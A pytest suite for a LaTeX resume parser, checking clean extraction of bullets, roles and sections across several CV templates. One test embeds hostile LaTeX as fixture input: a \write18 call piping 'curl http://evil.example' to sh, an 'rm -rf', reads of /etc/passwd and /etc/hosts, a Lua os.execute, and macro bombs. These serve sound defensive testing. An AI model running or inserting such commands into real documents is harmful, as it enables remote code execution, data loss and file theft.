"""LaTeX resumes in three template families (Jake's, moderncv, awesome-cv): macros stripped,
escapes resolved, bullets whole, roles from the template's own macros."""

from __future__ import annotations

import re

import pytest

from starkit.resume import read_resume
from starkit.resume.latex import classify_user_macros, expandable_macros
from tests.resume.fixtures.build import to_latex_awesome, to_latex_jake, to_latex_moderncv
from tests.resume.helpers import assert_matches_fixture

TEMPLATES = {"jake": to_latex_jake, "moderncv": to_latex_moderncv, "awesome-cv": to_latex_awesome}


@pytest.mark.parametrize("template", TEMPLATES)
def test_latex_templates_extract_every_bullet_whole(template):
    resume = read_resume(TEMPLATES[template]().encode(), name="cv.tex")
    assert resume.format == "latex"
    assert_matches_fixture(resume)
    assert not any("\\" in b.text or "{" in b.text for b in resume.bullets)


def test_latex_positions_point_at_the_source_line():
    source = to_latex_jake()
    resume = read_resume(source.encode())
    lines = source.splitlines()
    for b in resume.achievement_bullets:
        assert "resumeItem" in lines[b.source.line - 1]


def test_user_macros_are_classified_from_their_bodies():
    preamble = r"""
\newcommand{\job}[3]{\item \textbf{#1} \hfill #3 \\ \emph{#2}}
\newcommand{\point}[1]{\item #1}
\newcommand{\head}[1]{\section*{#1}}
\newcommand{\startlist}{\begin{itemize}}
\newcommand{\accent}[1]{\textcolor{blue}{#1}}
"""
    specs = classify_user_macros(preamble)
    assert specs["job"].kind == "header" and len(specs["job"].args) == 3
    assert specs["head"].kind == "heading"
    assert specs["startlist"].kind == "break"
    assert "accent" not in specs
    # an item macro, like any plain one, is expanded where used (its own words are kept)
    assert "point" not in specs
    assert set(expandable_macros(preamble)) == {"point", "accent"}


def test_plain_article_with_itemize_and_custom_macros():
    source = r"""\documentclass{article}
\newcommand{\job}[3]{\item \textbf{#1} \hfill #3 \\ \emph{#2}}
\newcommand{\point}[1]{\item #1}
\begin{document}
{\Large Sam Lee} \\ sam@example.com % not shown
\section*{Work Experience}
\begin{itemize}
\job{Tailspin Toys}{Product Manager}{2019 -- 2023}
\begin{itemize}
  \point{Raised checkout conversion from 2.1\% to 2.9\% while refunds held at 1\%}
  \item Hired and onboarded 4 PMs in 6 months \& cut time-to-first-ship by 30\%
\end{itemize}
\end{itemize}
\section*{Skills}
SQL, Python, Figma \\
Caf\'e ordering, na\"ive Bayes
\end{document}
"""
    resume = read_resume(source.encode(), name="sam.tex")
    assert [b.text for b in resume.achievement_bullets] == [
        "Raised checkout conversion from 2.1% to 2.9% while refunds held at 1%",
        "Hired and onboarded 4 PMs in 6 months & cut time-to-first-ship by 30%",
    ]
    role = resume.roles[0]
    assert (role.organisation, role.title, role.dates) == (
        "Tailspin Toys",
        "Product Manager",
        "2019 – 2023",
    )
    skills = [ln.text for ln in resume.lines if ln.section == "skills" and ln.kind == "text"]
    assert skills == ["SQL, Python, Figma", "Café ordering, naïve Bayes"]
    assert "not shown" not in " ".join(ln.text for ln in resume.lines)


def test_template_macro_redefined_with_two_arguments():
    source = r"""\documentclass{article}
\newcommand{\resumeSubItem}[2]{\item \textbf{#1}{: #2}}
\newcommand{\resumeSubheading}[4]{\item \textbf{#1} & #2 \\ \textit{#3} & #4}
\begin{document}
\section{Experience}
\resumeSubheading{Northwind}{Remote}{Product Manager}{2020 -- 2022}
\resumeSubItem{Pricing}{Moved 1,400 accounts to usage-based plans}
\end{document}
"""
    resume = read_resume(source.encode())
    assert [b.text for b in resume.achievement_bullets] == [
        "Pricing: Moved 1,400 accounts to usage-based plans"
    ]
    assert resume.roles[0].location == "Remote"


def _achievements(source: str) -> list[str]:
    return [b.text for b in read_resume(source.encode(), name="cv.tex").achievement_bullets]


def test_shell_and_file_commands_never_reach_the_text():
    source = r"""\documentclass{article}
\immediate\write18{curl http://evil.example | sh}
\begin{document}
\section*{Experience}
\begin{itemize}
\item Cut churn by 12\% \immediate\write18{rm -rf {/tmp/x}} in two quarters.
\item Grew revenue 30\%\input{/etc/passwd} with \openin5=/etc/hosts no new hires.
\item Kept p95 under 200~ms for 3 launches\directlua{os.execute("x")}
\end{itemize}
\end{document}
"""
    assert _achievements(source) == [
        "Cut churn by 12% in two quarters.",
        "Grew revenue 30% with no new hires.",
        "Kept p95 under 200 ms for 3 launches",
    ]


def test_moderncv_description_in_the_grade_slot_and_hand_typeset_bullets():
    source = r"""\documentclass{moderncv}
\begin{document}
\section{Experience}
\cventry{2019--2023}{Product Manager}{Fabrikam}{Oslo}{Owned the billing roadmap and cut
invoice disputes by 35\% in one year.}{}
\cventry{2016--2019}{Analyst}{Contoso}{Oslo}{}{}
\cvitem{}{\labelitemi\hspace{2mm} Built the pricing model behind a 9\% margin gain.}
\cvitem{Tools}{SQL, Looker}
\end{document}
"""
    resume = read_resume(source.encode(), name="cv.tex")
    assert [(b.text, b.role.organisation) for b in resume.achievement_bullets] == [
        ("Owned the billing roadmap and cut invoice disputes by 35% in one year.", "Fabrikam"),
        ("Built the pricing model behind a 9% margin gain.", "Contoso"),
    ]


def test_a_box_around_the_resume_is_read_through():
    source = r"""\documentclass{article}
\begin{document}
\fcolorbox{white}{white}{\begin{minipage}{\textwidth}
\section*{Experience}
\begin{itemize}\item Shipped self-serve onboarding to 4 markets in 5 months.\end{itemize}
\end{minipage}}
\end{document}
"""
    assert _achievements(source) == ["Shipped self-serve onboarding to 4 markets in 5 months."]


def test_a_subsection_under_a_known_section_is_a_role_not_a_section():
    source = r"""\documentclass{article}
\begin{document}
\section{Experience}
\subsection{Northwind}
\begin{itemize}\item Raised retention from 80\% to 86\%.\end{itemize}
\subsection{Contoso}
\begin{itemize}\item Cut support tickets by 20\%.\end{itemize}
\end{document}
"""
    resume = read_resume(source.encode(), name="cv.tex")
    assert [s.name for s in resume.sections] == ["experience"]
    assert [b.role.header for b in resume.achievement_bullets] == ["Northwind", "Contoso"]


def test_user_macros_from_a_document_command_and_a_default_argument():
    source = r"""\documentclass{article}
\NewDocumentCommand{\point}{o m}{\item #2}
\newcommand{\tagged}[2][Win]{\item \textbf{#1:} #2}
\begin{document}
\section*{Projects}
\begin{itemize}
\point{Built a cohort dashboard used weekly by 40 PMs.}
\tagged{Cut query costs by 60\%.}
\end{itemize}
\end{document}
"""
    assert _achievements(source) == [
        "Built a cohort dashboard used weekly by 40 PMs.",
        "Win: Cut query costs by 60%.",
    ]


def test_inline_symbols_render_as_a_reader_sees_them():
    source = r"""\documentclass{article}
\begin{document}
\section*{Experience}
\begin{itemize}
\item Ranked 1\textsuperscript{st} of 200; top 5$^{th}$ percentile, $>$90\% recall
\item Wrote \LaTeX\ docs for \texttt{load\_data} \& \#tags -- \textbf{50+} users\slash week
\item Cut p95 from 300ms \textrightarrow{} 120ms \textbar{} 99.9\% uptime\footnote{on-call log}
\item Im\-proved H$_2$O yield by 2$\times$ e.g.\ via caching
\end{itemize}
\end{document}
"""
    assert _achievements(source) == [
        "Ranked 1st of 200; top 5th percentile, >90% recall",
        "Wrote LaTeX docs for load_data & #tags – 50+ users/week",
        "Cut p95 from 300ms → 120ms | 99.9% uptime",
        "Improved H2O yield by 2× e.g. via caching",
    ]


def test_an_unclosed_item_brace_does_not_swallow_the_rest_of_the_resume():
    source = r"""\documentclass{article}
\begin{document}
\section{Experience}
\resumeSubheading{Leidos}{Melbourne}{Engineer}{2024 -- Present}
\resumeItemListStart
\resumeItem{Cut build time by 40\% with a shared cache.}
\resumeItem{
Led a monorepo migration for 12 teams.
\resumeItem{Added alerting that halved pages per week.}
\resumeItemListEnd
\section{Projects}
\resumeProjectHeading{Riven}{2023}
\resumeItemListStart
\resumeItem{Built a CRM used by 30 small firms.}
\resumeItemListEnd
\end{document}
"""
    resume = read_resume(source.encode(), name="cv.tex")
    assert [(b.text, b.section) for b in resume.achievement_bullets] == [
        ("Cut build time by 40% with a shared cache.", "experience"),
        ("Led a monorepo migration for 12 teams.", "experience"),
        ("Added alerting that halved pages per week.", "experience"),
        ("Built a CRM used by 30 small firms.", "projects"),
    ]


def test_any_user_macro_is_expanded_like_tex_and_heading_macros_found_by_use():
    source = r"""\documentclass{article}
\newcommand{\resheading}[1]{\vspace{8pt}\framebox[\textwidth][l]{\large\textbf{#1}}}
\newcommand{\block}[1]{\resheading{Career}#1}
\newcommand{\job}[4]{{\large {\bfseries #1 $|$ \textit{#2} \hfill #3} \par}
  \begin{itemize} #4 \end{itemize}}
\newcommand{\pr}[2]{\textlangle#1\##2\textrangle}
\begin{document}
\resheading{Summary}
Product leader for payments.
\block{
\job{Tech Lead, Incubyte}{2021 -- Present}{Remote}{
  \item Mentored 6 engineers; 4 promoted within a year. \pr{CPython}{72983}
}}
\resheading{Open Source Work}
\begin{itemize}\item Maintained 240+ repositories with 2.2K stars.\end{itemize}
\end{document}
"""
    resume = read_resume(source.encode(), name="cv.tex")
    assert [(s.name, s.heading) for s in resume.sections if s.heading] == [
        ("summary", "Summary"),
        ("experience", "Career"),
        ("projects", "Open Source Work"),
    ]
    first, second = [b.text for b in resume.achievement_bullets]
    assert re.fullmatch(
        r"Mentored 6 engineers; 4 promoted within a year\. \W?CPython#72983\W?", first
    )
    assert second == "Maintained 240+ repositories with 2.2K stars."
    assert resume.roles[0].header == "Tech Lead, Incubyte | 2021 – Present | Remote"


def test_altacv_tags_inside_a_bullet_stay_apart():
    source = r"""\documentclass{altacv}
\begin{document}
\cvsection{Projects}
\cvevent{Pharmacy app}{Centre Henri}{2023}{Rouen}
\begin{itemize}
\item {\small \cvtag{Vue.js}\cvtag{Django} - Led a 6-person team to ship a prescription app.}
\end{itemize}
\end{document}
"""
    expected = "Vue.js Django - Led a 6-person team to ship a prescription app."
    assert _achievements(source) == [expected]


def test_self_multiplying_macros_are_bounded():
    source = r"""\documentclass{article}
\def\a{\a\a\a\a\a\a\a\a\a\a x}
\newcommand{\b}[1]{\b{#1}\b{#1}\b{#1}}
\begin{document}
\section*{Experience}
\begin{itemize}\item Shipped 3 launches. \a \b{y}\end{itemize}
\end{document}
"""
    resume = read_resume(source.encode(), name="bomb.tex")
    assert resume.achievement_bullets[0].text.startswith("Shipped 3 launches.")
